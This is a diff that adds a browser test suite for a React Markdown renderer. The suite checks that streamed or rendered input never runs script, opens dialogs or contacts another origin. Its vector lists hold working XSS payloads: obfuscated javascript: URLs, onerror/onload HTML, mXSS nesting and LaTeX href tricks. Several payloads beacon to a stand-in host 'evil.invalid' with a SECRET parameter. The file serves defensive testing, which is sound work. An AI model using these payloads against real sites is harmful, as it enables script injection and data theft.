@@ -1,0 +1,205 @@
+import { createRoot, type Root } from 'react-dom/client';
+import { flushSync } from 'react-dom';
+import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
+import { footnotes } from '../footnotes/index.js';
+import { math } from '../math/index.js';
+import { Markdown } from './Markdown.js';
+
+declare global {
+  interface Window {
+    pwned?: unknown;
+  }
+}
+
+const SCRIPT = 'window.pwned=1';
+const EVIL = 'https://evil.invalid/?d=SECRET';
+const SCHEMES = [
+  `javascript:${SCRIPT}`,
+  `JaVaScRiPt:${SCRIPT}`,
+  ` javascript:${SCRIPT}`,
+  `java\tscript:${SCRIPT}`,
+  `java&Tab;script:${SCRIPT}`,
+  `java&NewLine;script:${SCRIPT}`,
+  `&#106;avascript:${SCRIPT}`,
+  `&#x6A;avascript&colon;${SCRIPT}`,
+  `\u0001javascript:${SCRIPT}`,
+  `javascript&#58;${SCRIPT}`,
+  `vbscript:${SCRIPT}`,
+  `data:text/html,<script>${SCRIPT}</script>`,
+  `data:image/svg+xml,<svg onload="${SCRIPT}">`,
+  `blob:https://a/b`,
+  `file:///etc/passwd`,
+  `view-source:javascript:${SCRIPT}`,
+  `feed:javascript:${SCRIPT}`,
+  `about:blank`,
+  `intent://x`,
+  `ms-word:x`,
+];
+const HTML = [
+  `<script>${SCRIPT}</script>`,
+  `<img src=x onerror="${SCRIPT}">`,
+  `<svg onload="${SCRIPT}"><animate onbegin=${SCRIPT} attributeName=x></svg>`,
+  `<iframe srcdoc="<script>parent.${SCRIPT}</script>"></iframe>`,
+  `<details open ontoggle="${SCRIPT}">x</details>`,
+  `<style>@import url(${EVIL});</style>`,
+  `<link rel=stylesheet href=${EVIL}><base href=${EVIL}><meta http-equiv=refresh content="0;url=${EVIL}">`,
+  `<math><mtext><table><mglyph><style><img src onerror=${SCRIPT}></style></mglyph></table></mtext></math>`,
+  `<a href="javascript:${SCRIPT}" id=x autofocus onfocus=${SCRIPT} tabindex=1>x</a>`,
+  `<form action=${EVIL}><button>x</button></form><video src=${EVIL} autoplay></video>`,
+  `</p></div><img src=${EVIL}>`,
+];
+const IMAGES = [
+  `![a](${EVIL})`,
+  `![a][r]\n\n[r]: ${EVIL}`,
+  `[![a](${EVIL})](https://x.invalid)`,
+  `![a](//evil.invalid/x)`,
+  `![a](\\\\evil.invalid/x)`,
+  `![a](/\\evil.invalid/x)`,
+  `![a](https:evil.invalid/x)`,
+  `![a](<https://evil.invalid/ x>)`,
+  `![a](data:image/svg+xml,<svg/onload=${SCRIPT}>)`,
+  `| ![a](${EVIL}) |\n|---|\n| ![b](${EVIL}) |`,
+  `- ![a](${EVIL})\n\n> ![a](${EVIL})`,
+  `[^1]\n\n[^1]: ![a](${EVIL})`,
+];
+const OTHER = [
+  `$\\href{javascript:${SCRIPT}}{x}$ $\\includegraphics{${EVIL}}$ $\\url{${EVIL}}$`,
+  `$$\n\\class{x" onclick="${SCRIPT}}{y}\n$$`,
+  `$\\style{background:url(${EVIL})}{x}$`,
+  `\`\`\`js" onload="${SCRIPT}\n<script>${SCRIPT}</script>\n\`\`\``,
+  `[x](https://a.invalid "\\" onclick=\\"${SCRIPT}")`,
+  `![x" onerror="${SCRIPT}](/own.png)`,
+  `<javascript:${SCRIPT}>`,
+  `[x]: javascript:${SCRIPT}\n\n[x]`,
+];
+const VECTORS = [
+  ...SCHEMES.flatMap((url) => [`[x](${url})`, `[x](<${url}>)`, `![x](${url})`, `<${url}>`]),
+  ...HTML,
+  ...IMAGES,
+  ...OTHER,
+];
+
+const ALLOWED = new Set(['http:', 'https:', 'mailto:']);
+const plugins = [math(), footnotes()];
+let host: HTMLElement;
+let root: Root;
+
+/** Requests that left for another origin, by the browser's own record. */
+function foreignRequests(): string[] {
+  return performance
+    .getEntriesByType('resource')
+    .map((entry) => entry.name)
+    .filter((name) => /evil|SECRET|\.invalid/.test(name));
+}
+
+function check(vector: string): void {
+  expect(window.pwned, `${vector}`).toBeUndefined();
+  expect(
+    host.querySelectorAll('script, iframe, object, embed, form, style, link, meta, base, video, svg').length,
+    `${vector}`,
+  ).toBe(0);
+  for (const element of host.querySelectorAll('*')) {
+    for (const { name } of element.attributes) expect(name.startsWith('on'), `${name} in ${vector}`).toBe(false);
+  }
+  for (const link of host.querySelectorAll<HTMLAnchorElement>('a[href]')) {
+    expect(ALLOWED.has(link.protocol), `${link.href} in ${vector}`).toBe(true);
+  }
+  for (const image of host.querySelectorAll('img'))
+    expect(new URL(image.src).origin, `${vector}`).toBe(location.origin);
+}
+
+beforeEach(() => {
+  host = document.body.appendChild(document.createElement('div'));
+  root = createRoot(host);
+  delete window.pwned;
+});
+afterEach(() => {
+  root.unmount();
+  host.remove();
+  vi.restoreAllMocks();
+});
+
+describe('hostile content in a real browser', () => {
+  it('runs no script, opens no dialog, asks no other origin: at the end and at every prefix', async () => {
+    const dialogs = (['alert', 'confirm', 'prompt', 'open'] as const).map((name) =>
+      vi.spyOn(window, name).mockImplementation(() => null as never),
+    );
+    performance.clearResourceTimings();
+    performance.setResourceTimingBufferSize(5000);
+    for (const vector of VECTORS) {
+      for (let length = 1; length <= vector.length; length++) {
+        flushSync(() => root.render(<Markdown text={vector.slice(0, length)} streaming plugins={plugins} />));
+        check(vector);
+      }
+      flushSync(() => root.render(<Markdown text={vector} plugins={plugins} />));
+      check(vector);
+      for (const link of host.querySelectorAll<HTMLElement>('a:not([href]), summary, span, p')) link.click();
+      for (const element of host.querySelectorAll<HTMLElement>('*')) {
+        for (const type of ['mouseover', 'focus', 'pointerenter', 'toggle'])
+          element.dispatchEvent(new Event(type, { bubbles: true }));
+      }
+      check(vector);
+    }
+    await new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve)));
+    expect(window.pwned).toBeUndefined();
+    for (const dialog of dialogs) expect(dialog).not.toHaveBeenCalled();
+    expect(foreignRequests()).toEqual([]);
+  });
+
+  it('works where the page allows neither inline styles nor markup from strings', async () => {
+    const violations: string[] = [];
+    document.addEventListener('securitypolicyviolation', (event) => violations.push(event.violatedDirective));
+    const frame = document.body.appendChild(document.createElement('iframe'));
+    const inner = frame.contentDocument;
+    if (inner === null) throw new Error('no document in the frame');
+    inner.addEventListener('securitypolicyviolation', (event) => violations.push(event.violatedDirective));
+    const policy = inner.head.appendChild(inner.createElement('meta'));
+    policy.httpEquiv = 'Content-Security-Policy';
+    policy.content = "default-src 'none'; style-src 'self'; img-src 'self'; require-trusted-types-for 'script'";
+    const place = inner.body.appendChild(inner.createElement('div'));
+    const framed = createRoot(place);
+    const text =
+      '# A\n\n| a |\n|:-:|\n| b |\n\n```js\nx\n```\n\n$x^2$ [^1] ![i](https://evil.invalid/x) <b>\n\n[^1]: n';
+    for (let length = 1; length <= text.length; length++) {
+      flushSync(() => framed.render(<Markdown text={text.slice(0, length)} streaming plugins={plugins} />));
+    }
+    flushSync(() => framed.render(<Markdown text={text} plugins={plugins} />));
+    await vi.waitFor(() => expect(place.innerHTML).toContain('<math'), 8000);
+    expect(place.querySelector('td')?.textContent).toBe('b');
+    expect(violations).toEqual([]);
+    framed.unmount();
+    frame.remove();
+  });
+});
+
+describe('what the reader has done', () => {
+  it('survives further text: selection, scroll of code, pressed buttons', () => {
+    const text = `First paragraph to select.\n\n\`\`\`js\n${'const a = 1; '.repeat(60)}\n\`\`\`\n\n`;
+    flushSync(() => root.render(<Markdown text={text} streaming />));
+    const paragraph = host.querySelector('p')?.firstChild;
+    const pre = host.querySelector('pre');
+    if (!paragraph || pre === null) throw new Error('nothing rendered');
+    pre.style.overflow = 'auto';
+    pre.style.width = '200px';
+    pre.scrollLeft = 120;
+    document.getSelection()?.setBaseAndExtent(paragraph, 6, paragraph, 15);
+    for (let count = 1; count <= 50; count++) {
+      flushSync(() => root.render(<Markdown text={`${text}${'- more **text**\n'.repeat(count)}`} streaming />));
+    }
+    expect(document.getSelection()?.toString()).toBe('paragraph');
+    expect(host.querySelector('pre')).toBe(pre);
+    expect(pre.scrollLeft).toBe(120);
+  });
+
+  it('copies code of several groups of lines without extra blank lines', () => {
+    const code = Array.from({ length: 80 }, (_, index) => `line ${index}`).join('\n');
+    flushSync(() => root.render(<Markdown text={`\`\`\`\n${code}\n\`\`\``} />));
+    const style = host.appendChild(document.createElement('style'));
+    style.textContent = '.cs-md-lines { display: block }';
+    const element = host.querySelector('code');
+    if (element === null) throw new Error('nothing rendered');
+    document.getSelection()?.selectAllChildren(element);
+    expect(document.getSelection()?.toString().trimEnd()).toBe(code);
+    expect(element.textContent).toBe(`${code}\n`);
+  });
+});
